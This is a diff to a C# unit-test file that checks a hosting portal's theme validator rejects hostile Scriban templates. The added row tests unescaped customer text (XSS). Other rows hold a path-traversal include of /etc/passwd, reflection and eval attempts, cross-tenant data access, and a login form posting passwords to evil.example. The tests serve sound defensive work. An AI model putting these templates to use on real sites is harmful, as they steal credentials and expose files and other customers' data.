@@ -26,6 +26,7 @@ public sealed class HostileThemeTests(HostileThemeTests.Portal shared) : IClassF
         { "reflection on the model", "templates/Compute/VmList.sbn-html", "{{ model.get_type.assembly }}", "has no member 'get_type'" },
         { "compiling data into code", "templates/Compute/VmList.sbn-html", "{{ object.eval_template model.title }}", "'eval_template' is not one of" },
         { "include outside the theme", "templates/Identity/Login.sbn-html", "{{ include '../../../../etc/passwd' }}", "not a template path" },
+        { "a customer's text written as HTML", "templates/Compute/VmList.sbn-html", "{{ for vm in model.vms }}{{ raw vm.name }}{{ end }}", "raw writes HTML unescaped" },
         { "another tenant's data", "templates/Compute/VmList.sbn-html", "{{ for c in customers }}{{ c.name }}{{ end }}", "'customers' is not a variable" },
         { "password posted elsewhere", "templates/Identity/Login.sbn-html", "<form method=\"post\" action=\"https://evil.example/steal\"><input name=\"password\"></form>", "sends a form to another site" },
         { "a layout that renders nothing", "templates/Layout.sbn-html", "", "shows nothing of its page" },
